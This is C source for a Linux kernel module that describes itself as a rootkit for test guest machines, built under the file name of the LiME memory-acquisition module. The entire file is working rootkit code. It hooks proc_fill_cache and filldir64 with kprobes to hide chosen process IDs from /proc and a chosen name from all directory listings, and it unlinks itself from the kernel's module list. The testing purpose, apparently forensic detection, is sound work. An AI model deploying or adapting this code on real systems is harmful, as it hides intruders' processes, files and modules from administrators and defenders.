// SPDX-License-Identifier: GPL-2.0
// A rootkit for the guests of the tests, in the manner of those in use: processes and threads are left out of every listing of /proc, a name of every other,
// and the module out of the list of modules. The factory builds it in LiME's place, hence the name of the file.
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/string.h>

static char *pid[4];
static int pids;
module_param_array(pid, charp, &pids, 0);
static char *name = "";
module_param(name, charp, 0);

// What is called in the place of a function that is to do nothing.
asm(".pushsection .text\n"
    "just_return:\n"
    "	ret\n"
    "	int3\n"
    ".popsection");
extern void just_return(void);

// bool proc_fill_cache(struct file *, struct dir_context *, const char *name, unsigned int len, ...): a line of a listing.
static int leave_out(struct kprobe *probe, struct pt_regs *regs)
{
	const char *name = (const char *)regs->dx;
	size_t length = (u32)regs->cx;
	int i;

	for (i = 0; i < pids; i++) {
		if (length != strlen(pid[i]) || memcmp(name, pid[i], length))
			continue;
		regs->ax = true;
		regs->ip = (unsigned long)just_return;
		return 1;
	}
	return 0;
}

// A probe that changes where a call goes needs one (arm_kprobe_ftrace, kernel/kprobes.c).
static void after(struct kprobe *probe, struct pt_regs *regs, unsigned long flags)
{
}

static struct kprobe probe = {
	.symbol_name = "proc_fill_cache",
	.pre_handler = leave_out,
	.post_handler = after,
};

// bool filldir64(struct dir_context *, const char *name, int namlen, ...): a line of any other listing.
static int leave_name_out(struct kprobe *probe, struct pt_regs *regs)
{
	size_t length = (u32)regs->dx;

	if (!length || length != strlen(name) || memcmp((const char *)regs->si, name, length))
		return 0;
	regs->ax = true;
	regs->ip = (unsigned long)just_return;
	return 1;
}

static struct kprobe names = {
	.symbol_name = "filldir64",
	.pre_handler = leave_name_out,
	.post_handler = after,
};

static int __init hide(void)
{
	int error = register_kprobe(&probe);

	if (error)
		return error;
	error = register_kprobe(&names);
	if (error)
		unregister_kprobe(&probe);
	else
		list_del_init(&THIS_MODULE->list);
	return error;
}

module_init(hide);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hides processes, threads, names and itself, for tests");
